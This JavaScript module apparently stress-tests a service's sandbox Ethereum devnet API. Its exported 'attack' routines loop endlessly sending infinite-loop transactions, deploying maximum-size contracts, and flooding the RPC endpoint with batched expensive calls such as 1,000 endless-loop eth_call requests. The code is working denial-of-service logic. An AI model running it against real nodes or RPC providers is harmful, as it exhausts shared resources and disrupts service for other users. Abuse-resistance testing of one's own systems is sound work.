import { getCreateAddress, Wallet } from 'ethers';
import { api, sleep } from './api.mjs';

/** JUMPDEST PUSH1 0 JUMP */
const ENDLESS = '0x5b600056';
/** Returns 24,576 bytes as the code of a contract. */
const LARGEST = '0x6160006000f3';

/** Makes contracts of an account of its own. `first`: the address of its first one. */
export const sender = async ({ url, trial }, data, gasLimit) => {
  const { send } = api(url, trial.apiKey);
  const wallet = Wallet.createRandom();
  const rpc = (method, params) => send('POST', '/devnet/ethereum', { jsonrpc: '2.0', id: 1, method, params });
  await send('POST', '/sandbox/v1/faucet', { symbol: 'ETH', address: wallet.address, amount: '2' });
  const { body } = await rpc('eth_chainId', []);
  let nonce = 0;
  const next = async () => {
    const fees = { maxFeePerGas: 20n * 10n ** 9n, maxPriorityFeePerGas: 10n ** 9n };
    const transaction = { type: 2, chainId: BigInt(body.result), nonce, data, gasLimit, value: 0n, ...fees };
    const sent = await rpc('eth_sendRawTransaction', [await wallet.signTransaction(transaction)]);
    if (sent.body?.result) nonce += 1;
    return sent.body?.result ? 'taken' : (sent.body?.error?.message ?? `${sent.status}`).slice(0, 60);
  };
  return { next, first: getCreateAddress({ from: wallet.address, nonce: 0 }) };
};

const repeatedly = (what, data, gasLimit) => async attack => {
  const { next } = await sender(attack, data, gasLimit);
  while (!attack.over()) {
    attack.note(what, await next());
    await sleep(100);
  }
};

export const endlessLoops = repeatedly('endless loops', ENDLESS, 10_000_000n);
export const deployments = repeatedly('deployments', LARGEST, 6_000_000n);

export async function expensiveCalls({ url, trial, over, note }) {
  const { send } = api(url, trial.apiKey);
  const calls = [
    ['eth_newFilter', [{}]],
    ['eth_newBlockFilter', []],
    ['eth_call', [{ data: ENDLESS, gas: '0x3b9aca00' }]],
    ['eth_getLogs', [{ fromBlock: '0x0', toBlock: 'latest' }]],
    ['eth_estimateGas', [{ data: ENDLESS }]],
    ['debug_traceCall', [{ data: ENDLESS }, 'latest']],
    ['eth_feeHistory', ['0x400', 'latest', [25, 75]]],
  ];
  const batch = calls.map(([method, params], id) => ({ jsonrpc: '2.0', id, method, params }));
  while (!over())
    for (const body of [...batch, batch, Array.from({ length: 1_000 }, () => batch[2])])
      note('expensive calls', (await send('POST', '/devnet/ethereum', body)).status);
}
